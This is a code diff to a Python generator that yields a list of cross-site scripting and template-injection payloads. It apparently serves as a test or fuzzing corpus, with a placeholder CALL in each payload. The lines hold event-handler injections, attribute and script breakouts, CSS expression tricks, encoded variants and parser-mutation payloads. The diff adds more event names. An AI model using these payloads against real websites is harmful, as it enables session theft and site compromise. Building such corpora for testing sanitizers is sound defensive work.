@@ -21,7 +21,8 @@ def _all() -> Iterator[str]:
         yield f"<{tag} onload={CALL}>"
     for event in ("click", "mouseover", "focus autofocus", "pointerenter", "animationstart",
                   "transitionend", "toggle", "beforeinput", "wheel", "copy", "drag", "input",
-                  "scroll", "contextmenu", "auxclick", "beforetoggle"):  # fmt: skip
+                  "scroll", "contextmenu", "auxclick", "beforetoggle", "dblclick", "keydown", "cut",
+                  "submit", "invalid"):  # fmt: skip
         yield f"<a tabindex=1 on{event}={CALL}>x</a>"
     # Out of an attribute.
     for quote in ('"', "'", "`", ""):
@@ -65,14 +66,22 @@ def _all() -> Iterator[str]:
     yield from (f'"}}]}}</script><script>{CALL}</script>', f"\u2028{CALL}", f"*/{CALL}/*")
     # Templates and CSS.
     yield from (f"{{{{ {CALL} }}}}", "{{7*7}}__xss", "{% load static %}__xss", "{{request}}__xss")
-    yield from (f"#{{{CALL}}}", f"<%= {CALL} %>", f"[[${{{CALL}}}]]", f"{{{{constructor('{CALL}')}}}}")
+    yield from (
+        f"#{{{CALL}}}",
+        f"<%= {CALL} %>",
+        f"[[${{{CALL}}}]]",
+        f"{{{{constructor('{CALL}')}}}}",
+    )
     yield from (f"<style>@import'javascript:{CALL}';</style>", f"<p style=x:expression({CALL})>")
     # Encoded once or twice, with odd bytes, and by mutation of the parser.
     yield from (f"&lt;img src=x onerror={CALL}&gt;", f"%3Cscript%3E{CALL}%3C/script%3E")
     yield from (f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"\\x3cscript\\x3e{CALL}")
     yield from (f"+ADw-script+AD4-{CALL}", f"＜script＞{CALL}＜/script＞", f"<scr\u200bipt>{CALL}")
     yield from (f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",)
-    yield from (f"<p id='<img src=x onerror={CALL}>'>", f"<!--<img src='--><img src=x onerror={CALL}>'>")
+    yield from (
+        f"<p id='<img src=x onerror={CALL}>'>",
+        f"<!--<img src='--><img src=x onerror={CALL}>'>",
+    )
     yield from (f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>", f"<x/onclick={CALL}>x")
 
 
